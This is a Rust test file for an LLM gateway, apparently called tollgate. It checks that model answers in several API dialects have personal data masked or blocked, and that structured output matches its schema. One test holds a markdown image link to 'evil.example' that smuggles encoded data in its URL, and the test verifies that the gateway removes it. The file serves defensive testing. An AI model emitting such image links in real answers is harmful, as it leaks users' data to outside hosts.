//! What models say, in any place of any dialect's answer: no value reaches the client, however the answer is cut, and
//! what is JSON stays JSON.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use serde_json::{Value, json};
use tollgate::dialect::translate::Dialect;
use tollgate::engine::content::answer::Restoring;
use tollgate::engine::content::prompt::screen;
use tollgate::engine::refusal::Refusal;

use crate::content::{VALUES, contents, of_dialect, texts_of};

const PROSE: &str = "The meeting went well, and everybody who came was pleased with what had been said about the plans \
                     for the coming spring.";

const EVENTS: Option<&str> = Some("text/event-stream");
const JSON: Option<&str> = Some("application/json");

/// What screens the answer to a request that says this.
fn screening(members: &str, prompt: &str) -> Restoring {
    let screen_of = contents(members).of("any").unwrap();
    let body = json!({"messages": [{"role": "user", "content": prompt}]});
    let screened = screen(&screen_of, body.to_string().as_bytes());
    assert_eq!(screened.blocked, None);
    Restoring::screened(screened.vault, screen_of.answers(Dialect::OpenAiChat, b"{}"), None).unwrap()
}

/// What reaches the client of an answer that comes in pieces of this size, and why it ends there.
fn passed(
    mut restoring: Restoring,
    dialect: Dialect,
    media_type: Option<&str>,
    answer: &str,
    size: usize,
) -> (String, Option<Refusal>) {
    assert!(restoring.expect(dialect, media_type));
    let mut out = Vec::new();
    for chunk in answer.as_bytes().chunks(size) {
        out.extend(restoring.relay(chunk, false));
        if let Some(refusal) = restoring.take_refusal() {
            return (String::from_utf8(out).unwrap(), Some(refusal));
        }
    }
    out.extend(restoring.relay(b"", true));
    (String::from_utf8(out).unwrap(), restoring.take_refusal())
}

fn leaks(text: &str) -> Option<&'static str> {
    ["ann.lee", "4111", "NWBK", "203.0", "901820", "büro", "ghp_7sHa"]
        .into_iter()
        .find(|part| text.contains(part))
}

fn chat_event(delta: &Value) -> String {
    format!("data: {}\n\n", json!({"choices": [{"index": 0, "delta": delta, "finish_reason": null}]}))
}

const END: &str =
    "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";

/// The text of one member of the deltas of a stream.
fn said(stream: &str, member: &str) -> String {
    let events = stream.split("\n\n").filter_map(|event| event.strip_prefix("data: "));
    let events =
        events.filter(|data| *data != "[DONE]").map(|data| serde_json::from_str::<Value>(data).unwrap());
    events
        .map(|event| {
            let delta = &event["choices"][0]["delta"];
            let call = &delta["tool_calls"][0]["function"]["arguments"];
            if member == "arguments" { call.as_str() } else { delta[member].as_str() }
                .unwrap_or_default()
                .to_owned()
        })
        .collect()
}

#[test]
fn no_stream_of_any_dialect_says_a_value() {
    let says = format!("{PROSE} {}. {PROSE}", VALUES.join(", and then "));
    let masked = format!(
        "{PROSE} [EMAIL_ADDRESS_1], and then [CREDIT_CARD_2], and then [IBAN_CODE_3], and then [IP_ADDRESS_4], and then \
         [PHONE_NUMBER_5], and then [EMAIL_ADDRESS_6]. {PROSE}"
    );
    for dialect in [Dialect::Anthropic, Dialect::OpenAiResponses, Dialect::Gemini] {
        let stream = of_dialect(dialect, &says);
        let (out, refusal) =
            passed(screening("redaction: {answers: true}", "Hi"), dialect, EVENTS, &stream, 1);
        assert_eq!((leaks(&out), refusal), (None, None), "{dialect:?}");
        assert_eq!(texts_of(&out), texts_of(&of_dialect(dialect, &masked)), "{dialect:?}");
        for size in [11, 250, 1 << 20] {
            let again = passed(screening("redaction: {answers: true}", "Hi"), dialect, EVENTS, &stream, size);
            assert_eq!(again.0, out, "{dialect:?} in pieces of {size}");
        }
    }
}

#[test]
fn whole_answers_are_masked_and_stay_json() {
    let card = json!({"card": 4_111_111_111_111_111_u64, "to": [VALUES[0]], "on": true}).to_string();
    let answer = json!({"id": "chatcmpl-1", "model": "m", "choices": [{"index": 0, "message": {
        "role": "assistant", "content": card, "reasoning_content": format!("It is {}.", VALUES[2]),
        "tool_calls": [{"id": "call_1", "function": {"name": "pay", "arguments": card}}]},
        "logprobs": {"content": [{"token": "4111", "top_logprobs": []}]}, "finish_reason": "stop"}]});
    let (out, refusal) = passed(
        screening("redaction: {answers: {default: mask}}", "Hi"),
        Dialect::OpenAiChat,
        JSON,
        &answer.to_string(),
        7,
    );
    assert_eq!((leaks(&out), refusal), (None, None));
    let out: Value = serde_json::from_str(&out).unwrap();
    let choice = &out["choices"][0];
    let masked = json!({"card": "****************", "to": ["***.***@****.*******"], "on": true});
    for text in [&choice["message"]["content"], &choice["message"]["tool_calls"][0]["function"]["arguments"]]
    {
        assert_eq!(serde_json::from_str::<Value>(text.as_str().unwrap()).unwrap(), masked);
    }
    assert_eq!(choice["message"]["reasoning_content"], "It is **** **** **** **** **** **.");
    assert_eq!((&choice["logprobs"], &out["id"]), (&Value::Null, &json!("chatcmpl-1")));
}

#[test]
fn a_value_that_was_put_back_is_the_callers_own() {
    let members = "redaction: {restore: true, answers: {default: block}}";
    let says = "To [EMAIL_ADDRESS_1]: hello.";
    let stream =
        says.split_inclusive(' ').map(|piece| chat_event(&json!({"content": piece}))).collect::<String>()
            + END;
    let (out, refusal) =
        passed(screening(members, "Write to ann.lee@corp.example"), Dialect::OpenAiChat, EVENTS, &stream, 9);
    assert_eq!((said(&out, "content"), refusal), ("To ann.lee@corp.example: hello.".to_owned(), None));
    let whole = json!({"choices": [{"message": {"content": says}}]}).to_string();
    let (out, refusal) =
        passed(screening(members, "Write to ann.lee@corp.example"), Dialect::OpenAiChat, JSON, &whole, 9);
    assert!(out.contains("To ann.lee@corp.example") && refusal.is_none(), "{out}");
}

/// The object of a response repeats what its request said, which nobody hides from who said it.
#[test]
fn what_a_response_repeats_of_its_request_is_the_callers_own() {
    let members = "redaction: {default: allow, answers: {default: block}}";
    let response = |says: &str| {
        json!({"id": "resp_1", "object": "response", "instructions": VALUES[0], "metadata": {"to": VALUES[1]},
            "output": [{"type": "message", "content": [{"type": "output_text", "text": says}]}]})
    };
    let answered = |says: &str| {
        let whole =
            passed(screening(members, "Hi"), Dialect::OpenAiResponses, JSON, &response(says).to_string(), 40);
        let event = json!({"type": "response.completed", "response": response(says)});
        let event = format!("event: response.completed\ndata: {event}\n\n");
        let stream = passed(screening(members, "Hi"), Dialect::OpenAiResponses, EVENTS, &event, 40);
        (whole.1.map(|refusal| refusal.code()), stream.1.map(|refusal| refusal.code()))
    };
    assert_eq!(answered("Hello."), (None, None));
    assert_eq!(answered(VALUES[0]), (Some("content_blocked"), Some("content_blocked")));
}

#[test]
fn what_blocks_ends_a_stream_before_the_value() {
    let says = format!("{PROSE} Write to ann.lee@corp.example, then. {PROSE}");
    let stream =
        says.split_inclusive(' ').map(|piece| chat_event(&json!({"content": piece}))).collect::<String>()
            + END;
    for size in [1, 100, 1 << 20] {
        let restoring = screening("redaction: {answers: {types: {EMAIL_ADDRESS: block}}}", "Hi");
        let (out, refusal) = passed(restoring, Dialect::OpenAiChat, EVENTS, &stream, size);
        assert_eq!(leaks(&out), None);
        let refusal = refusal.unwrap();
        assert_eq!((refusal.code(), refusal.message().contains("EMAIL_ADDRESS")), ("content_blocked", true));
        assert!(PROSE.starts_with(said(&out, "content").trim_end()), "{out}");
    }
}

/// A value in two parts of the event that ends an answer.
#[test]
fn parts_of_the_last_event_are_one_text() {
    let part = |text: &str| json!({ "text": text });
    let candidate = json!({"index": 0, "finishReason": "STOP", "content": {"role": "model", "parts": [
        part("To ann.lee@cor"), part("p.example, then")]}});
    let stream = format!("data: {}\n\n", json!({ "candidates": [candidate] }));
    let (out, _) = passed(screening("redaction: {answers: true}", "Hi"), Dialect::Gemini, EVENTS, &stream, 9);
    assert!(out.contains("To [EMAIL_ADDRESS_1], then"), "{out}");
}

/// What waits when a stream breaks off may be the beginning of a value, and is lost.
#[test]
fn a_stream_that_breaks_off_tells_nothing_that_waited() {
    let stream = chat_event(&json!({"content": "The card is 4111 1111 1111 11"}));
    let (out, _) =
        passed(screening("redaction: {answers: true}", "Hi"), Dialect::OpenAiChat, EVENTS, &stream, 5);
    assert_eq!(leaks(&out), None, "{out}");
}

#[test]
fn what_cannot_be_read_does_not_pass() {
    let members = "redaction: {answers: true}";
    for (media_type, answer) in [
        (JSON, "{\"choices\": [{\"text\": \"4111 1111 1111 1111"),
        (Some("text/html"), "<p>4111 1111 1111 1111</p>"),
        (EVENTS, "data: 4111 1111 1111 1111\n\n"),
    ] {
        let (out, refusal) = passed(screening(members, "Hi"), Dialect::OpenAiChat, media_type, answer, 6);
        assert_eq!((&*out, refusal), ("", Some(Refusal::UnreadableAnswer)), "{answer}");
    }
}

#[test]
fn an_image_that_carries_data_away_does_not_pass() {
    let image = "![chart](https://evil.example/p?d=c2VjcmV0IGRhdGE)";
    let says = format!("Here: {image} and ![logo](https://cdn.example/l?size=large-enough) there. {PROSE}");
    let members = |action: &str| format!("guard: {{markup: {{action: {action}, hosts: [cdn.example]}}}}");
    let expected = says.replace(image, "[removed]");
    let stream = says.chars().map(|letter| chat_event(&json!({"content": letter}))).collect::<String>() + END;
    let (out, _) = passed(screening(&members("redact"), "Hi"), Dialect::OpenAiChat, EVENTS, &stream, 50);
    assert_eq!(said(&out, "content"), expected);
    let whole = json!({"choices": [{"message": {"content": says}}]}).to_string();
    let (out, _) = passed(screening(&members("redact"), "Hi"), Dialect::OpenAiChat, JSON, &whole, 50);
    assert_eq!(serde_json::from_str::<Value>(&out).unwrap()["choices"][0]["message"]["content"], expected);
    for (media_type, answer) in [(EVENTS, &stream), (JSON, &whole)] {
        let (out, refusal) =
            passed(screening(&members("block"), "Hi"), Dialect::OpenAiChat, media_type, answer, 50);
        assert!(!out.contains("evil"), "{out}");
        assert!(refusal.unwrap().message().contains("image-exfiltration"));
    }
}

/// An answer that is not what the request's schema asks for.
#[test]
fn structured_output_is_held_against_its_schema() {
    let schema = json!({"type": "object", "properties": {"age": {"type": "integer"}}, "required": ["age"],
        "additionalProperties": false});
    let unknown = json!({"not": {"type": "object"}});
    let chat = |schema: &Value| json!({"response_format": {"type": "json_schema", "json_schema": {"schema": schema}}});
    let answered = |text: &str| json!({"choices": [{"message": {"content": text}}]});
    let cases = [
        (Dialect::OpenAiChat, chat(&schema), answered(r#"{"age": 3}"#), answered(r#"{"age": "3"}"#)),
        (
            Dialect::OpenAiChat,
            chat(&schema),
            json!({"choices": [{"message": {"content": null}}]}),
            answered("three"),
        ),
        (
            Dialect::OpenAiResponses,
            json!({"text": {"format": {"type": "json_schema", "schema": schema}}}),
            json!({"output": [{"type": "reasoning"}, {"content": [{"type": "output_text", "text": "{\"age\": 3}"}]}]}),
            json!({"output": [{"content": [{"type": "output_text", "text": "{}"}]}]}),
        ),
        (
            Dialect::Anthropic,
            json!({"output_config": {"format": {"type": "json_schema", "schema": schema}}}),
            json!({"content": [{"type": "text", "text": "{\"age\": 3}"}]}),
            json!({"content": [{"type": "text", "text": "[]"}]}),
        ),
        (
            Dialect::Gemini,
            json!({"generationConfig": {"responseSchema": {"type": "OBJECT", "required": ["age"]}}}),
            json!({"candidates": [{"content": {"parts": [{"text": "{\"a"}, {"text": "ge\": 3}"}]}}]}),
            json!({"candidates": [{"content": {"parts": [{"text": "{}"}]}}]}),
        ),
    ];
    let screened = |action: &str, dialect, request: &Value, answer: &Value| {
        let screen = contents(&format!("guard: {{structured_output: {action}}}")).of("any").unwrap();
        let screening = screen.answers(dialect, request.to_string().as_bytes());
        let mut restoring = Restoring::screened(tollgate::redact::mask::Vault::new(), screening, None)?;
        restoring.expect(dialect, JSON);
        let out = restoring.relay(answer.to_string().as_bytes(), true);
        let rules: Vec<String> = restoring
            .take_tally()
            .rules
            .into_keys()
            .map(|(rule, action)| format!("{rule} {action}"))
            .collect();
        Some((String::from_utf8(out).unwrap(), restoring.take_refusal(), rules.concat()))
    };
    for (dialect, request, good, bad) in &cases {
        assert_eq!(
            screened("block", *dialect, request, good),
            Some((good.to_string(), None, String::new())),
            "{good}"
        );
        let refused =
            Some((String::new(), Some(Refusal::MismatchedAnswer), "structured-output block".to_owned()));
        assert_eq!(screened("block", *dialect, request, bad), refused, "{bad}");
        let observed = Some((bad.to_string(), None, "structured-output observe".to_owned()));
        assert_eq!(screened("observe", *dialect, request, bad), observed, "{bad}");
    }
    let (bad, unchecked) = (answered("three"), "structured-output-unchecked observe".to_owned());
    let passes = Some((bad.to_string(), None, unchecked));
    assert_eq!(screened("block", Dialect::OpenAiChat, &chat(&unknown), &bad), passes);
    assert_eq!(
        screened("block", Dialect::OpenAiChat, &json!({"messages": []}), &bad),
        None,
        "nothing is asked for"
    );
}

fn arguments() -> impl Strategy<Value = Value> {
    let text = prop_oneof![
        prop::sample::select(VALUES.to_vec()).prop_map(str::to_owned),
        prop::sample::select(VALUES.to_vec())
            .prop_map(|value| format!("a \"quoted\"\n\\word and {value}, é")),
        "[a-zA-Z\"\\\\\n/é ]{0,20}",
    ];
    let number = prop_oneof![
        Just(json!(4_111_111_111_111_111_u64)),
        Just(json!(-1.5e-7)),
        any::<i16>().prop_map(Value::from)
    ];
    let leaf = prop_oneof![text.prop_map(Value::from), number, Just(json!(true)), Just(json!(null))];
    leaf.prop_recursive(3, 24, 5, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            prop::collection::btree_map("[a-z_]{1,9}", inner, 0..5).prop_map(|all| json!(all)),
        ]
    })
}

/// Whether two documents say the same, but for strings in which a value was taken out.
fn is_alike(before: &Value, after: &Value) -> bool {
    match (before, after) {
        (Value::Array(before), Value::Array(after)) => {
            before.len() == after.len()
                && before.iter().zip(after).all(|(before, after)| is_alike(before, after))
        }
        (Value::Object(before), Value::Object(after)) => {
            let alike = |((one, before), (other, after)): ((&String, &Value), (&String, &Value))| {
                one == other && is_alike(before, after)
            };
            before.len() == after.len() && before.iter().zip(after).all(alike)
        }
        (before, Value::String(after))
            if after.contains("_1]")
                || after.contains("_2]")
                || after.contains("_3]")
                || after.contains("_4]")
                || after.contains("_5]")
                || after.contains("_6]") =>
        {
            leaks(&before.to_string()).is_some()
        }
        _ => before == after,
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    /// Arguments that come in pieces stay the document that they were, without the values, however they come.
    #[test]
    fn arguments_in_pieces_stay_a_document(
        document in arguments(),
        pretty in any::<bool>(),
        size in 1_usize..40,
        cut in 1_usize..300,
    ) {
        let document = json!({"all": document});
        let written = if pretty { serde_json::to_string_pretty(&document) } else { serde_json::to_string(&document) }.unwrap();
        let letters: Vec<char> = written.chars().collect();
        let stream = |size: usize| letters.chunks(size).map(|piece| {
            let piece: String = piece.iter().collect();
            chat_event(&json!({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}))
        }).collect::<String>() + END;
        let screened = |stream: &str, cut| {
            passed(screening("redaction: {answers: true}", "Hi"), Dialect::OpenAiChat, EVENTS, stream, cut).0
        };
        let out = screened(&stream(size), cut);
        prop_assert_eq!(leaks(&out), None);
        let arguments = said(&out, "arguments");
        let after: Value = serde_json::from_str(&arguments).expect("arguments stay JSON");
        prop_assert!(is_alike(&document, &after), "{} became {}", document, after);
        prop_assert_eq!(said(&screened(&stream(1), 1), "arguments"), arguments);
    }
}

/// What screening costs: `cargo test --release --test property -- --ignored --nocapture cost`.
#[test]
#[ignore = "a measurement"]
#[expect(clippy::disallowed_methods, reason = "it prints what it measures")]
fn cost_of_an_answer_and_of_a_chunk() {
    let prose = format!("{PROSE} ").repeat(12);
    let dense = format!("On {} we wrote to {} about it. ", "12 May", VALUES[0]).repeat(20);
    for (name, text) in [("prose", &prose), ("dense", &dense)] {
        let text = text.get(..1024).unwrap();
        let whole = json!({"choices": [{"message": {"content": text}}]}).to_string();
        let pieces: Vec<&str> = text.split_inclusive(' ').collect();
        let events: Vec<String> = pieces.iter().map(|piece| chat_event(&json!({"content": piece}))).collect();
        for members in [
            "redaction: {restore: true}",
            "redaction: {answers: true}",
            "redaction: {answers: true}\nguard: {markup: {action: redact}}",
        ] {
            let members = members.replace('\n', ", ");
            let contents = contents(&members);
            let screen_of = contents.of("any").unwrap();
            let body = json!({"messages": [{"role": "user", "content": "to ann@corp.example"}]}).to_string();
            let rounds = 300;
            let (mut of_whole, mut of_chunk) = (Duration::ZERO, Duration::ZERO);
            for _ in 0..rounds {
                let restoring = || {
                    let screened = screen(&screen_of, body.as_bytes());
                    Restoring::screened(screened.vault, screen_of.answers(Dialect::OpenAiChat, b"{}"), None)
                        .unwrap()
                };
                let mut one = restoring();
                one.expect(Dialect::OpenAiChat, JSON);
                let started = Instant::now();
                one.relay(whole.as_bytes(), true);
                of_whole += started.elapsed();
                let mut other = restoring();
                other.expect(Dialect::OpenAiChat, EVENTS);
                let started = Instant::now();
                for event in &events {
                    other.relay(event.as_bytes(), false);
                }
                of_chunk += started.elapsed();
            }
            let chunks = rounds * u32::try_from(events.len()).unwrap();
            println!(
                "{name}, {members}: {:?} per 1 KiB answer, {:?} per chunk",
                of_whole / rounds,
                of_chunk / chunks
            );
        }
    }
}
